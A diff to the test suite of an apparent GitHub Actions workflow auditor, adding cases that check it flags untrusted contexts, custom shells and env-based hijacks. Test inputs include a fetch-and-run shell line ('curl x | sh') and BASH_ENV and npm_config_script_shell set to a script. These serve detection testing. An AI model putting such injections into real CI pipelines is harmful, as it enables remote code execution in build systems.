@@ -130,12 +130,12 @@ describe("auditFile", () => {
   it("treats inputs as untrusted under workflow_call, not under workflow_dispatch", () => {
     const step = (on: string) =>
       workflow(
-        "      - run: npm run lint\n        shell: bash ${{ inputs.flags }} {0}",
+        `      - uses: ${CHECKOUT}\n        with:\n          persist-credentials: false\n          args: \${{ inputs.flags }}`,
         "",
         on,
       );
     expect(rules(step("workflow_dispatch"))).toEqual([]);
-    expect(rules(step("workflow_call"))).toEqual(["12 untrusted-context"]);
+    expect(rules(step("workflow_call"))).toEqual(["14 untrusted-context"]);
   });
 
   it("finds untrusted contexts in with.script, with.args and defaults", () => {
@@ -144,16 +144,40 @@ describe("auditFile", () => {
       "    defaults:\n      run:\n        working-directory: ${{ github.head_ref }}",
     );
     expect(rules(text)).toEqual([
+      "9 run-allowed",
       "9 untrusted-context",
       "17 untrusted-context",
     ]);
     expect(
       rules(
         workflow(
-          "      - run: npm run lint\n        working-directory: ${{ github.event_name }}",
+          `      - uses: ${CHECKOUT}\n        with:\n          persist-credentials: false\n          args: \${{ github.event_name }}`,
         ),
       ),
     ).toEqual([]);
+  });
+
+  it("refuses a custom shell, another working-directory and env that hijacks npm/node", () => {
+    const lint = "      - run: npm run lint";
+    expect(
+      rules(workflow(`${lint}\n        shell: bash -c "curl x | sh" {0}`)),
+    ).toEqual(["12 run-allowed"]);
+    expect(rules(workflow(`${lint}\n        working-directory: fork`))).toEqual(
+      ["12 run-allowed"],
+    );
+    expect(rules(workflow(`${lint}\n        working-directory: .`))).toEqual(
+      [],
+    );
+    expect(
+      rules(
+        workflow(
+          `${lint}\n        env:\n          npm_config_script_shell: ./x.sh`,
+        ),
+      ),
+    ).toEqual(["13 run-env"]);
+    expect(rules(workflow(lint, "    env:\n      BASH_ENV: ./x.sh"))).toEqual([
+      "8 run-env",
+    ]);
   });
 
   it("judges secrets in if: conditions (no braces) and by the job's environment", () => {
